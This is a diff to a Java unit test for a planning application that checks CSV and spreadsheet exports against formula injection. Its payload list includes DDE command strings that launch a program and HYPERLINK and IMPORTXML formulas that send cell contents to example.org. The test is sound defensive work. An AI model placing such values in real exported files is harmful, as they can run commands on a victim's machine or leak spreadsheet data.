@@ -12,18 +12,14 @@ import java.util.Comparator;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
-import java.util.stream.IntStream;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipFile;
-import org.hubplan.exchange.account.HeldRow;
-import org.hubplan.exchange.account.Ignored;
 import org.hubplan.exchange.account.ImportAccount;
 import org.hubplan.exchange.cells.Cell;
 import org.hubplan.exchange.cells.Progress;
 import org.hubplan.exchange.cells.Sheet;
 import org.hubplan.exchange.cells.Workbook;
 import org.hubplan.exchange.export.PlanExport;
-import org.hubplan.exchange.headings.Kind;
 import org.hubplan.exchange.headings.Words;
 import org.hubplan.model.BusinessGroup;
 import org.hubplan.model.BusinessGroups;
@@ -46,7 +42,7 @@ import org.junit.jupiter.params.provider.ValueSource;
 
 /// Texts that a spreadsheet program would carry out as formulas, in every place a text can stand.
 class InjectionTest {
-    private static final List<String> PAYLOADS = List.of(
+    static final List<String> PAYLOADS = List.of(
             "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\t+1", "\r-1",
             "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
             "=HYPERLINK(\"http://example.org/?\"&A1,\"Click\")", "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
@@ -86,11 +82,7 @@ class InjectionTest {
 
     @Test
     void none_is_a_formula_among_the_held_rows_saved_or_pasted() throws IOException {
-        List<HeldRow> held = IntStream.range(0, PAYLOADS.size())
-                .mapToObj(n -> new HeldRow("=sheet", n + 2, PAYLOADS.get(n), PAYLOADS.get(n), PAYLOADS.get(n), List.of(PAYLOADS.get(n))))
-                .toList();
-        ImportAccount account = new ImportAccount(
-                "=file", Kind.POSTS, "=sheet", 1, 0, 0, 0, held, Ignored.NONE, held.size(), List.of(), List.of());
+        ImportAccount account = OpenedInOfficeTest.held();
         Path saved = folder.resolve("held.csv");
         HeldRowsTable.save(account, saved);
         Path pasted = Files.writeString(folder.resolve("pasted.csv"), HeldRowsTable.pasted(account));
@@ -99,7 +91,8 @@ class InjectionTest {
         assertNoFormula(pasted);
     }
 
-    private static Plan plan() {
+    /// Posts, a group and a rate that say nothing else.
+    static Plan plan() {
         Plan plan = Plan.blank()
                 .with(Hub.open("XX", "=hub()", HubKind.CENTRAL))
                 .with(new BusinessGroups(List.of(new BusinessGroup("@group", 100, 100, "=high"))));
